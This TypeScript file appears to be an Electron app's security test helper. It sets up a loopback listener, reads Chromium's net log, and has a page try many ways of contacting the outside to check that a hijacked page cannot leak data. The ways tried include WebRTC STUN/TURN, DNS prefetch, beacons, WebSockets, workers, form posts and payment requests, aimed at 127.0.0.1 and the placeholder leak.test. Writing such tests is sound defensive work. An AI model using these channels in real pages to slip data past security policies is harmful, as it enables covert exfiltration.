/** What a page whose script was replaced could tell the outside, seen from outside: by listeners, and by Chromium's own record of names asked for and sockets opened. */

import { createSocket } from "node:dgram";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import type { OpenedApp } from "../e2e/shell/open-app.ts";

export interface Outside {
  port: number;
  /** What arrived, by its kind, such as "udp" or "tcp GET /fetch". */
  arrived: Set<string>;
  close(): Promise<void>;
}

/** Listens on one port of the loopback address, by TCP and by UDP; answers nothing that keeps a connection. */
export async function listenOutside(): Promise<Outside> {
  const arrived = new Set<string>();
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.once("data", (bytes: Buffer) => {
      const [line = ""] = bytes.toString("latin1").split("\r\n");
      arrived.add(/^[A-Z]+ /.test(line) ? `tcp ${line.replace(/ HTTP.*/, "")}` : "tcp");
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("There is no port.");
  const udp = createSocket("udp4", () => void arrived.add("udp"));
  udp.bind(address.port, "127.0.0.1");
  await once(udp, "listening");
  return {
    port: address.port,
    arrived,
    close: async () => {
      udp.close();
      server.close();
      await once(server, "close");
    },
  };
}

interface NetLog {
  constants: { logEventTypes: Record<string, number> };
  events: { type: number; params?: Record<string, unknown> }[];
}

/** Names that Chromium asked for and addresses that it opened sockets to, while `work` ran. */
export async function netRecordOf(opened: OpenedApp, folder: string, work: () => Promise<void>) {
  const path = join(folder, "net-log.json");
  await opened.app.evaluate(
    ({ session }, to) => session.defaultSession.netLog.startLogging(to, { captureMode: "everything" }),
    path,
  );
  await work();
  await opened.app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  const { asked, sockets } = readNetLog(path);
  return { names: asked.filter((params) => /leak\.test/.test(params)), sockets };
}

/** What Chromium's record in this file says of names that were asked for and of sockets that were opened. */
export function readNetLog(path: string): { asked: string[]; sockets: string[] } {
  const { constants, events }: NetLog = JSON.parse(readFileSync(path, "utf8"));
  const ofKind = (kind: RegExp) => {
    const types = new Set(
      Object.entries(constants.logEventTypes)
        .filter(([name]) => kind.test(name))
        .map(([, type]) => type),
    );
    const found = events.filter(({ type, params }) => types.has(type) && params !== undefined);
    return [...new Set(found.map(({ params }) => JSON.stringify(params)))];
  };
  return {
    asked: ofKind(/^HOST_RESOLVER_/),
    sockets: ofKind(/^(TCP_CONNECT_ATTEMPT|UDP_CONNECT)$/),
  };
}

/** Everything that a page knows to reach the outside with, tried at once; ends when each try has ended. */
export const tryEverything = ({ page }: OpenedApp, port: number): Promise<string[]> =>
  page.evaluate(async (to) => {
    // While the caller's own evaluation runs, the policy lets it evaluate; one turn later it holds again.
    await new Promise((settle) => setTimeout(settle, 50));
    const base = `http://127.0.0.1:${to}`;
    const tried: string[] = [];
    const attempt = async (name: string, work: () => unknown): Promise<void> => {
      tried.push(name);
      const late = new Promise((settle) => setTimeout(settle, 3_000));
      try {
        await Promise.race([work(), late]);
      } catch {
        // Refused: what counts is seen from outside.
      }
    };
    const element = (tag: string, fields: Record<string, string>) =>
      new Promise((settle) => {
        const made = Object.assign(document.createElement(tag), fields);
        made.onload = made.onerror = settle;
        document.head.append(made);
        setTimeout(settle, 400);
      });
    const gather = async (iceServers: RTCIceServer[], make = () => RTCPeerConnection) => {
      const peer = new (make())({ iceServers });
      peer.createDataChannel("x");
      const done = new Promise<void>((settle) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && settle();
      });
      await peer.setLocalDescription(await peer.createOffer());
      await done;
      peer.close();
    };
    const turn = { username: "books", credential: "x" };
    const named = "leak.test";
    await Promise.all([
      attempt("stun", () => gather([{ urls: `stun:127.0.0.1:${to}` }])),
      attempt("stun by name", () => gather([{ urls: `stun:stun.${named}:${to}` }])),
      attempt("turn udp", () => gather([{ urls: `turn:127.0.0.1:${to}?transport=udp`, ...turn }])),
      attempt("turn tcp", () => gather([{ urls: `turn:127.0.0.1:${to}?transport=tcp`, ...turn }])),
      attempt("turns tcp", () => gather([{ urls: `turns:127.0.0.1:${to}?transport=tcp`, ...turn }])),
      attempt("turn tcp by name", () =>
        gather([{ urls: `turn:turn.${named}:${to}?transport=tcp`, ...turn }]),
      ),
      attempt("turn udp by name", () =>
        gather([{ urls: `turn:turnudp.${named}:${to}?transport=udp`, ...turn }]),
      ),
      attempt("stun from a frame", () => {
        const frame = document.createElement("iframe");
        document.body.append(frame);
        return gather([{ urls: `stun:127.0.0.1:${to}` }], () =>
          Reflect.get(frame.contentWindow ?? {}, "RTCPeerConnection"),
        );
      }),
      attempt("dns-prefetch", () =>
        element("link", { rel: "dns-prefetch", href: `http://prefetch.${named}/` }),
      ),
      attempt("anchor prefetch", () => {
        const meta = document.createElement("meta");
        meta.httpEquiv = "x-dns-prefetch-control";
        meta.content = "on";
        document.head.append(meta);
        const link = document.createElement("a");
        link.href = `http://anchor.${named}/`;
        document.body.append(link);
        return new Promise((settle) => setTimeout(settle, 400));
      }),
      attempt("preconnect", () => element("link", { rel: "preconnect", href: base })),
      attempt("preconnect by name", () =>
        element("link", { rel: "preconnect", href: `https://preconnect.${named}/` }),
      ),
      attempt("prefetch", () => element("link", { rel: "prefetch", href: `${base}/prefetch` })),
      attempt("preload", () => element("link", { rel: "preload", href: `${base}/preload`, as: "fetch" })),
      attempt("modulepreload", () => element("link", { rel: "modulepreload", href: `${base}/module` })),
      attempt("stylesheet", () => element("link", { rel: "stylesheet", href: `${base}/css` })),
      attempt("icon", () => element("link", { rel: "icon", href: `${base}/icon` })),
      attempt("manifest", () => element("link", { rel: "manifest", href: `${base}/manifest` })),
      attempt("fetch", () => fetch(`${base}/fetch`, { mode: "no-cors" })),
      attempt("fetch keepalive", () =>
        fetch(`${base}/keepalive`, { mode: "no-cors", keepalive: true, method: "POST" }),
      ),
      attempt("xhr", () => {
        const request = new XMLHttpRequest();
        request.open("GET", `${base}/xhr`);
        request.send();
        return new Promise((settle) => Object.assign(request, { onloadend: settle }));
      }),
      attempt("beacon", () => navigator.sendBeacon(`${base}/beacon`, "books")),
      attempt("socket", () => {
        const socket = new WebSocket(`ws://127.0.0.1:${to}/socket`);
        return new Promise((settle) => Object.assign(socket, { onclose: settle, onerror: settle }));
      }),
      attempt("events", () => {
        const source = new EventSource(`${base}/events`);
        return new Promise((settle) => Object.assign(source, { onerror: settle })).then(() => source.close());
      }),
      attempt("webtransport", () => new WebTransport(`https://127.0.0.1:${to}/transport`).ready),
      attempt("img", () => element("img", { src: `${base}/img` })),
      attempt("script", () => element("script", { src: `${base}/script` })),
      attempt("media", () => element("video", { src: `${base}/video` })),
      attempt("object", () => element("object", { data: `${base}/object` })),
      attempt("embed", () => element("embed", { src: `${base}/embed` })),
      attempt("frame", () => element("iframe", { src: `${base}/frame` })),
      attempt("font", () => new FontFace("x", `url(${base}/font)`).load()),
      attempt("css", () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body{background:url(${base}/background)}`);
        document.adoptedStyleSheets.push(sheet);
        return new Promise((settle) => setTimeout(settle, 400));
      }),
      attempt("worker", () => new Worker(URL.createObjectURL(new Blob([`fetch("${base}/worker")`])))),
      attempt("service worker", () => navigator.serviceWorker.register(`${base}/sw.js`)),
      attempt("ping", () => {
        const link = Object.assign(document.createElement("a"), { href: "#x", ping: `${base}/ping` });
        document.body.append(link);
        link.click();
        return new Promise((settle) => setTimeout(settle, 400));
      }),
      attempt("form", () => {
        const form = document.createElement("form");
        Object.assign(form, { action: `${base}/form`, method: "post" });
        document.body.append(form);
        form.submit();
        return new Promise((settle) => setTimeout(settle, 400));
      }),
      attempt("identity", () =>
        Reflect.apply(navigator.credentials.get, navigator.credentials, [
          { identity: { providers: [{ configURL: `${base}/identity`, clientId: "x" }] } },
        ]),
      ),
      attempt("auction", () =>
        Reflect.apply(Reflect.get(navigator, "joinAdInterestGroup"), navigator, [
          { owner: "https://leak.test", name: "x", updateURL: "https://auction.leak.test/u" },
          1000,
        ]),
      ),
      attempt("payment", () =>
        new PaymentRequest([{ supportedMethods: `https://pay.leak.test/` }], {
          total: { label: "x", amount: { currency: "USD", value: "1" } },
        }).canMakePayment(),
      ),
    ]);
    return tried;
  }, port);
